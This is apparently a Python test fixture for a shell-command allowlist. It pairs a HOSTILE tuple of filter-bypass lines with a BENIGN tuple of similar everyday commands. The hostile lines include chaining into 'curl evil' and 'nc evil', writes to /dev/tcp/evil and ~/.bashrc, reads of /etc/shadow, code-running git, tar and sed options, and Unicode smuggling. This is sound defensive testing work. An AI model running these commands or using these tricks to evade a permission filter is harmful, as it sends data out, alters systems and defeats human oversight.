"""Lines that must never pass by prefix rules, and everyday twins that must.

Classes: chaining, substitution, expansion, quoting tricks, redirection, here-documents, variables,
functions, continuation, wrappers, interpreters, options that run code, size, invisible signs.
"""

HOSTILE = (
    # chaining after an allowed word
    "git status; curl evil", "git status && curl evil", "git status || curl evil",
    "git status | nc evil 1", "git status & curl evil", "git status\ncurl evil", "ls |& nc evil 1",
    "# harmless\ngit status; curl evil", "grep x f" + " " * 300 + "; curl evil",
    "if true; then curl evil; fi", "(ls; curl evil)", "{ ls; curl evil; }", "! curl evil",
    "while curl evil; do true; done",
    # substitutions
    "echo $(curl evil)", "echo `curl evil`", 'echo "$(curl evil)"', "cat <(curl evil)",
    "tee >(curl evil)", 'git commit -m "`curl evil`"', "echo $((a[$(curl evil)]))", "echo $[1+1]",
    # expansions beyond $name
    "echo ${x@P}", "echo ${x:=y}", "echo ${!x}", "echo ${x:-$(curl evil)}", "echo $1", "echo $_",
    "ls {/etc,/root}", "ls {-la,--help}", "$SHELL -c x", "git${IFS}push", "cat$IFS/etc/passwd",
    # quoting tricks
    "'cu'rl evil", "c\\url evil", "$'\\x63url' evil", 'echo $"x"', "echo 'a", 'echo "a',
    "cu''rl evil",
    # redirections and here-documents
    "echo x > ~/.bashrc", "echo x >> f", "echo x >| f", "echo x &> f", "echo x >& f", "ls 2> f",
    "cat < /etc/shadow", "echo x > /dev/tcp/evil/1", "cat <<E\nx\nE", "cat <<<x", "ls {fd}> f",
    "cat <<E | bash\ncurl evil\nE", "cat <> f", "ls >$f", "echo x >&${fd}",
    # variables, functions and state
    "PATH=. git status", "GIT_SSH_COMMAND=x git status", "PAGER=x man y", "x=1", "env X=1 ls",
    "export PATH=.; git status", "declare -x PATH=.; ls", "printf -v PATH x", "read x; ls",
    "ls() { curl evil; }; ls", "alias ls=curl; ls", "trap 'curl evil' EXIT; ls", "set -a; ls",
    "for i in a; do ls; done", "case a in a) ls;; esac", "[[ -v x[$(curl evil)] ]] && ls",
    "[ -v 'x[$(curl evil)]' ] && ls", "((x=1)); ls", "eval ls", "source f; ls", ". f; ls",
    "exec ls", "unset PATH; ls", "let x=1; ls", "hash -p /tmp/x ls; ls",
    # continued lines
    "ls \\\n; curl evil", "cu\\\nrl evil", "ls -\\\nla",
    # wrappers
    "timeout 5 curl evil", "env curl evil", "env -S 'curl evil'", "env -C / ls", "sudo ls",
    "xargs curl", "xargs -a f ls", "nohup curl evil", "sh -c 'curl evil'", "bash -c \"$x\"",
    "bash -lc ls", "bash -c 'ls; curl evil'", "find . -exec curl {} \\;", "find . -exec {} \\;",
    "find . -delete", "find . -fprint f", "timeout -x ls", "nice --weird ls", "xargs -I{} {}",
    "find . -name x | xargs git", "sh", "echo ls | sh", "bash -s", "command curl evil",
    "watch ls", "ssh host ls", "ssh -o ProxyCommand=x host", "time curl evil", "busybox curl",
    # options that run code or write files
    "git -c core.pager=x log", "git -C / status", "git -c alias.z='!curl' z",
    "git diff --ext-diff", "git log --output=f", "git log --outp=f", "git grep -O x",
    "git config alias.z x", "git rebase --exec x", "git rebase -ix x", "git rebase -x x HEAD~1",
    "git grep -Ox y", "git grep -nO x", "git clone -c core.fsmonitor=x y", "git clone --conf=a=x y",
    "git clone -u x y", "git -P clone -u x y", "go test -exec x", "go build -toolexec=x",
    "jobs -x id", "compgen -C id", "compgen -W '$(id)'", "taskset 1 curl", "sed -l 1p '1e id' f",
    "sed --line-length 1p '1e id' f", "git submodule foreach x",
    "git --exec-path=x status", "git -p log", "git fetch --upload-pack=x", "git bisect run x",
    "rg --pre x y", "rg --pre=x y", "sort --compress-program=x f", "sort -o f f",
    "tar --checkpoint-action=exec=x -cf a b", "tar -I x -cf a b", "tar xIf x y",
    "tar cf a --to-command=x", "tar --checkpoint-a=exec=x -c a", "tar cf a *", "sed 's/a/b/e' f",
    "sed 's/a/b/w f' f", "sed '1e id' f", "sed -f x y", "sed '1w f' x",
    "awk 'BEGIN{system(\"id\")}'", "awk '{print > \"f\"}' x", "awk -f x y",
    "awk -v a=1 '{print | \"sh\"}' x", "python -c 'x'", "python3 -Bc x", "python -X dev -c x",
    "python -", "perl -e x", "perl -ne x", "node -e x", "node --eval=x", "python3.11 -c x",
    "man -P x y", "man --pager=x y", "file -m x y", "docker -H x ps", "make --eval=x",
    "sed 's/[/]/;s/w /b/' f", "npm exec x", "test -v 'x[$(curl evil)]'",
    "python -m timeit 'import os'", "python3 -m pdb -c continue a.py", "python3 -m code",
    "cat a.py | python3", "echo x | perl", "echo x | node", "cat a | python -u", "python -v",
    # runners: a rule that does not name what they run
    "uv run curl evil", "uv run --frozen curl evil", "uv run --weird curl evil", "uv run $x",
    "uv --offline run curl evil", "uv run python -c x", "uv tool run curl", "uvx curl",
    "npx curl evil", "npx -y curl", "docker exec -it c curl evil", "docker run --rm i curl evil",
    "docker exec -u root c sh -c 'curl evil'", "docker compose exec web curl evil",
    "docker -D exec c curl", "poetry run curl evil", "uv run - < a.py", "uv run bash -c \"$x\"",
    "awk --source 'system(1)'", "vim +:!curl", "less +!x y", "time A=1 ls", "pypy -c x",
    # size and invisible signs
    ";".join(["ls"] * 51), "ls " + "x" * 10_000, "ls\u200b -la", "ls \u202e f", "ls\u00a0-la",
    "ls\r", "ls\x00", "ls \x1b[2K", "git\u2009status", "ls -la\u3000x", "", "   ", "# ls",
)  # fmt: skip

BENIGN = (
    "git status", "git status && git diff", "git status || true", "git log --oneline | head -20",
    "git diff --stat HEAD~1", "git log -p src/a.py", "git -P log -p", "git --no-pager diff",
    "git commit -m 'it works; really'", 'git commit -m "a && b"', "git commit -m \"it's \\$5\"",
    "git show HEAD@{1}", "git grep 'a|b'", "git log --pretty='%h %s'", "git add -A",
    "git clean -fdx", "git switch -c a", "git commit -c HEAD", "git clone --depth 1 x",
    "git cherry-pick -x a", "git grep -n x", "go test ./...", "go build -o x", "git rebase main",
    "git checkout -b a/b", "git stash list",
    "git log main..feature", "git fetch origin", "git branch -a",
    "ls", "ls -la src", "ls *.py", "ls $HOME", "ls ~/x", "ls 2>/dev/null", "ls > /dev/null 2>&1",
    "ls &>/dev/null", "ls 2>&1 | wc -l", "(cd src && ls)", "{ ls; wc -l a; }", "! grep x f",
    "if test -f a; then cat a; else echo no; fi", "while true; do ls; done", "ls # a comment",
    "ls\n\ncat a", "ls & cat a", "ls\t-la", "ls 'a b' \"c d\" e\\ f", "ls é", "echo 'a > b; c'",
    'echo "a $HOME b"', "echo $HOME", "echo '$(x)'", "echo \\$x", "echo {}", "echo a=b", "echo a#b",
    "echo 100%", "echo 'it''s'", "echo hi!", 'echo "costs 5 $ or so"', "printf '%s\\n' a b",
    "timeout 5 pytest -q", "timeout -k 5 60 npm test", "nice -n 5 make", "time make -j4",
    "env pytest", "env -u X pytest", "bash -c 'ls && cat a'", "sh -c ls", "bash script.sh",
    "find . -name '*.py' -type f", "find . -name x -o -name y", "find . \\( -name a \\) -print",
    "find . ! -name x", "find . -name '*.o' -exec wc -l {} \\;", "find . -exec grep -l x {} +",
    "find . -name '*.py' | xargs wc -l", "find . -print0 | xargs -0 -n 1 grep -l x",
    "find . | xargs -I{} grep x {}", "rg -n 'foo|bar' src", "rg --pretty x", "grep -rn \"a b\" .",
    "sort -u a", "sort f | head", "tar czf a.tgz b", "tar -tzf a.tgz", "sed -n '1,20p' a",
    "sed 's/a/b/g' f", "sed -i 's/a/b/' f", "sed -n '/x/p;5q' f", "awk '{print $1}' f",
    "awk -F: '{print $2}' f", "awk '$1 == 5' f", "python -m pytest -c x.cfg", "python a.py -c x",
    "python -m http.server", "python3 -u -m pytest", "node app.js -p 80", "perl x.pl -e",
    "make -C sub test", "npm test -- --watch=false", "npm run build", "docker ps", "man ls",
    "uv run pytest -q", "uv run --frozen ruff check .", "uv run python a.py", "uv sync",
    "uv pip list", "npx tsc --noEmit", "npx -y prettier .", "docker exec web ls -la",
    "docker run x",
    "docker compose exec web ls", "docker compose up -d", "poetry run pytest", "python3 --version",
    "node -v", "python -V", "uv run",
    "file a.bin", "pytest -q -k 'a and not b' tests/test_a.py::test_b[x]", "cat a b",
    ";".join(["ls"] * 50), "ls " + "x" * 9_000,
)  # fmt: skip
